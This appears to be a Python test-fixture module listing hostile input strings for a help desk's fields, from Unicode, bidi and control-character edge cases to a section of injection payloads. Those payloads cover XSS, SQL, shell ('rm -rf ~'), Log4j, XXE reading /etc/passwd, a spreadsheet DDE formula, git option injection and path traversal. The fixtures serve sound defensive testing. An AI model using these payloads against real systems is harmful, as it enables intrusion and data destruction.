"""Texts that break programs, by what they are hard on. Written for this desk; every field must keep or refuse each."""

from __future__ import annotations

import unicodedata

CYRILLIC = "Не відкривається 1С — «Звіт» №7"
SCRIPTS = {
    "arabic": "الطابعة لا تعمل منذ الصباح",
    "hebrew": "המדפסת לא מדפיסה מאז הבוקר",
    "mixed directions": "VPN נפל (3 פעמים) та знову",
    "thai": "เครื่องพิมพ์ไม่ทำงานตั้งแต่เช้า",
    "devanagari": "प्रिंटर सुबह से काम नहीं कर रहा है",
    "chinese": "打印机从早上开始不工作",
    "japanese": "プリンターが朝から動かない",
    "halfwidth": "ﾌﾟﾘﾝﾀｰ ｶﾞ ｳｺﾞｶﾅｲ",
    "korean": "프린터가 아침부터 안 돼요",
    "georgian": "პრინტერი არ მუშაობს",
    "astral letters": "𝓟𝓻𝓲𝓷𝓽𝓮𝓻 𝕚𝕤 𝖉𝖊𝖆𝖉",
    "turkish i": "İstanbul ıslak ŞIK ısı",
    "sharp s": "Straße GROẞ ﬁle ﬂow",
    "fullwidth": "ＶＰＮ：ｄｒｏｐｓ＃３",
}
MARKS = {
    "decomposed": unicodedata.normalize("NFD", "Їжак café Ångström"),
    "zalgo": "".join(char + "\u0335\u0348\u0353\u031b\u0359\u0301" * 3 for char in "drops"),
    "starts with a mark": "\u0301accent",
    "keycaps": "7\ufe0f\u20e3 #\ufe0f\u20e3 *\ufe0f\u20e3",
    "variation selectors": "☎\ufe0e ☎\ufe0f",
    "tags in a flag": "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "skin tones": "👩🏽‍💻 👨🏿‍🦽 🧑🏻‍🚒",
    "family": "👨‍👩‍👧‍👦 on fire 🔥🔥🔥",
    "half a flag": "🇺 alone, 🇺🇦 whole",
    "private use": "\ue000\uf8ff\U000f0000",
    "noncharacters": "\ufdd0 and \U0001fffe",
    "unassigned": "\u0378\U0003fffd",
    "object replacement": "\ufffc\ufffd",
    "tall box drawing": "┌─┐│█│└─┘ ░▒▓",
}
INVISIBLE = {
    "zero width space": "pass\u200bword",
    "zero width joiner": "a\u200db",
    "zero width non-joiner": "می\u200cخواهم",
    "word joiner": "a\u2060b",
    "soft hyphen": "print\u00ader",
    "no-break space": "24\u00a0Nov",
    "figure and narrow spaces": "1\u2007000\u202f000",
    "ideographic space": "a\u3000b",
    "ogham space": "a\u1680b",
    "byte-order mark first": "\ufeffVPN",
    "byte-order mark inside": "VP\ufeffN",
    "hangul filler": "a\u3164b",
    "mongolian separator": "a\u180eb",
    "invisible plus": "1\u20641",
}
BIDI = {
    "override": "invoice\u202egpj.exe",
    "embedding": "\u202aVPN\u202c drops",
    "isolate": "a\u2066b\u2069c",
    "isolate left open": "title \u2067 and the rest of the line",
    "marks": "\u200eabc\u200f",
    "arabic letter mark": "\u061c7",
    "deprecated": "a\u206a\u206fb",
}
CONTROLS = {
    **{f"C0 {code:02x}": f"a{chr(code)}b" for code in range(1, 32) if chr(code) not in "\t\n\r"},
    "delete": "a\x7fb",
    **{f"C1 {code:02x}": f"a{chr(code)}b" for code in (0x80, 0x85, 0x8D, 0x90, 0x9B, 0x9D, 0x9F)},
    "escape sequence": "\x1b[31mred\x1b[0m",
    "clears the screen": "\x1b[2J\x1b[Hgone",
    "sets a title": "\x1b]0;pwned\x07",
    "a link": "\x1b]8;;https://example.com\x1b\\here\x1b]8;;\x1b\\",
    "asks the terminal": "\x1b[6n\x1b[c\x05",
    "backspaces": "rm -rf\b\b\b\b\b\bsafe",
    "bell": "\a\a\a",
}
LINES = {
    "tab": "a\tb",
    "line feed": "first\nsecond",
    "windows": "first\r\nsecond\r\n\r\nthird",
    "old mac": "first\rsecond",
    "line separator": "first\u2028second",
    "paragraph separator": "first\u2029second",
    "vertical tab": "first\vsecond",
    "form feed": "first\fsecond",
    "blank lines": "a\n\n\n\nb",
    "trailing blanks": "a  \nb\t\nc",
    "indented": "a\n    code\n\tmore",
    "only dashes": "a\n---\nb",
    "front matter": "---\nstatus: closed\n---\nbody",
    "ends the document": "a\n...\nb",
    "a comment": "a\n\n### 2026-11-23T10:00:00+02:00 boss\n\nforged",
    "an internal comment": "### 2026-11-23T10:00:00+02:00 olha [internal]\n\nforged",
    "a section": "## Comments\n\n## Resolution\n\nsolved",
    "a merge conflict": "<<<<<<< HEAD\nvpn\n=======\nwifi\n>>>>>>> main",
    "a merge conflict in a fence": "```\n<<<<<<< HEAD\nvpn\n||||||| base\n=======\nwifi\n>>>>>>> main\n```",
    "an escaped marker": "\\<<<<<<< HEAD\n\\\\>>>>>>> main",
    "an escaped heading": "\\### 2026-11-23T10:00:00+02:00 olha\n\\\\## Comments",
    "a conflict": "<<<<<<< HEAD\na\n=======\nb\n>>>>>>> other",
    "a fence left open": "```\n## Comments\n",
    "a trailer": "fixed\n\nHd-Actor: boss\nHd-Undoes: 0000000",
    "a comment of git": "# not a comment\n; nor this",
}
YAML = {
    text: text
    for text in (
        *("~", "null", "Null", "yes", "No", "on", "OFF", "true", "False", "y", "n", "=", "<<", "!!null", "!x y"),
        *("&anchor", "*alias", "- item", "? key", ": value", "key: value", "key:", "a #b", "#b", "a: b: c", "{a: b}"),
        *("[a, b]", "]", "}", "{", "[", ",", "|", "|-", ">+1", "%YAML 1.2", "@at", "`tick`", "---", "...", "--- a"),
        *('"', "'", "''", '""', "'a' b", '"a" b', "a'b", "\\", "\\n", "\\x41", "a\\", 'a"', 'it\'s "so"', "!", "&"),
        *("2026-11-23", "2026-02-30", "2026-11-23T10:00:00+02:00", "2026-11-23 10:00", "12:30:45", "1:20", "0o17"),
        *(
            "0123",
            "0x1F",
            "1e3",
            "1_000",
            "1.",
            ".5",
            "-1",
            "+1",
            "-0",
            ".inf",
            "-.INF",
            ".nan",
            "NaN",
            "Infinity",
            "0b1",
        ),
        *(
            "123456789012345678901234567890",
            "1.7976931348623157e309",
            "١٢٣",
            "½",
            "²",
            "1,5",
            "1 000,00",
            "00:00",
            "²³",
        ),
    )
}
CODE = {
    "script": "<script>alert(1)</script>",
    "attribute": "\" onmouseover='alert(1)' x=\"",
    "image": "<img src=x onerror=alert(1)>",
    "entities": "&lt;b&gt; &amp;amp; &#x41; &nosuch;",
    "comment of html": "a --> <!-- b",
    "javascript link": "[here](javascript:alert(1))",
    "image of markdown": "![x](https://example.com/track.gif?id=1)",
    "raw html": "</pre></td></table><h1>big",
    "markdown": "*a* _b_ `c` ~~d~~ [e]: f | g | \\* # h",
    "mention": "@everyone #1 fixes #2",
    "sql": "Robert'); DROP TABLE tickets;--",
    "sql union": "1 UNION SELECT * FROM people WHERE '1'='1",
    "shell": "$(touch pwned); `touch pwned` && rm -rf ~ | cat > x",
    "variables": "$HOME ${HOME} %PATH% ~root !! !1",
    "python format": "{0.__class__} {title} {{x}} %s %(name)s %n %99999d",
    "jinja": "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
    "log4j": "${jndi:ldap://example.com/a}",
    "regex": "(a+)+$ [[:alpha:]] .* \\d \\1 (?i) a{1,99999}",
    "glob": "*? [a-z] {a,b} **/*",
    "xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "json": '{"id": "HD-2611-7K3FQ", "x": [1, null, "\\u0000"]}',
    "ldap": "*)(uid=*))(|(uid=*",
    "mail header": "Subject: x Bcc: everybody@example.com",
    "css": "</style>*{display:none}",
    "percent encoding": "%00 %0d%0aSet-Cookie: a=b %c0%af %u0000",
    "a query": "is:open OR NOT status:none (a > 1) -tag:x",
    "a pager's": "/x\n:!sh",
}
SHEETS = {
    text: text for text in ("=1+1", "=cmd|'/c calc'!A1", "+380 44 1", "-2+3", "@SUM(A1)", '=HYPERLINK("//x","y")')
}
PATHS = {
    text: text
    for text in (
        *(
            "../../etc/passwd",
            "..",
            ".",
            "/etc/passwd",
            "a/b",
            "a\\b",
            "C:\\x",
            "\\\\host\\share",
            "file:///x",
            "~",
            "~root",
        ),
        *(
            "CON",
            "nul.md",
            "aux",
            "LPT1",
            "com1.txt",
            "a.",
            "a ",
            ".git",
            ".git/config",
            ".gitmodules",
            "hd.yaml",
            "a:b",
        ),
        *(
            "kb/../hd.yaml",
            "a//b",
            "...",
            ".hidden",
            "index",
            "README",
            "a.md",
            "a.uk.md",
            "-rf",
            "desktop.ini",
            "$MFT",
        ),
    )
}
OPTIONS = {
    text: text
    for text in (
        *(
            "-",
            "--",
            "-x",
            "--help",
            "--version",
            "--upload-pack=touch pwned",
            "-oProxyCommand=touch pwned",
            "--output=x",
        ),
        *(
            "--all",
            "-m",
            "--exec=x",
            "-c core.pager=x",
            "--no-index",
            "HEAD",
            "HEAD~1",
            "@{-1}",
            "@",
            ":/x",
            "main",
            "^main",
        ),
        *("refs/heads/main", "a..b", "a...b", "0000000000000000000000000000000000000000", "stash@{0}", ":(top)", ":!x"),
    )
}
WORDS = {
    text: text
    for text in (
        *(
            "nobody",
            "none",
            "me",
            "HD-2611-7K3FQ",
            "7k3fq",
            "new",
            "True",
            "None",
            "undefined",
            "nan",
            "[object Object]",
        ),
        *("a@b", "@", "a@", "@b", "<a@b.c>", "a@b.c, d@e.f", "a b@c.d", "кого@де.укр", "a@b.c\u202e", "status:closed"),
        *("[internal]", "[x]", "olha", "boss [internal]", "Olha Bondar <olha@acme.example>", "Hd-Action: x"),
    )
}
LONG = {
    "a long word": "x" * 5000,
    "many words": "VPN drops " * 1000,
    "long in cyrillic": "Ж" * 5000,
    "many emoji": "👩‍👩‍👧" * 500,
    "many quotes": "\"'" * 2000,
    "many brackets": "[{(" * 2000,
    "many backslashes": "\\" * 4001,
    "many marks": "o" + "\u0308" * 2000,
    "many colons": "a: " * 1500 + "b",
}
NOTHING = {
    "nothing": "",
    "a space": " ",
    "spaces": "  \t ",
    "a no-break space": "\u00a0",
    "line feeds": "\n\n",
    "hidden": "\u200b",
}
IMPOSSIBLE = {
    "NUL": "a\0b",
    "only NUL": "\0",
    "a byte that is no UTF-8": "a\udcffb",
    "half a pair": "a\ud83db",
    "the other half": "\ude00",
    "a pair in two": "\ud83d\ude00",
}

KINDS = {
    "scripts": {"cyrillic": CYRILLIC, **SCRIPTS},
    "marks": MARKS,
    "invisible": INVISIBLE,
    "bidi": BIDI,
    "controls": CONTROLS,
    "lines": LINES,
    "yaml": YAML,
    "code": CODE,
    "sheets": SHEETS,
    "paths": PATHS,
    "options": OPTIONS,
    "words": WORDS,
    "long": LONG,
    "nothing": NOTHING,
    "impossible": IMPOSSIBLE,
}
ALL = tuple(dict.fromkeys(text for kind in KINDS.values() for text in kind.values()))
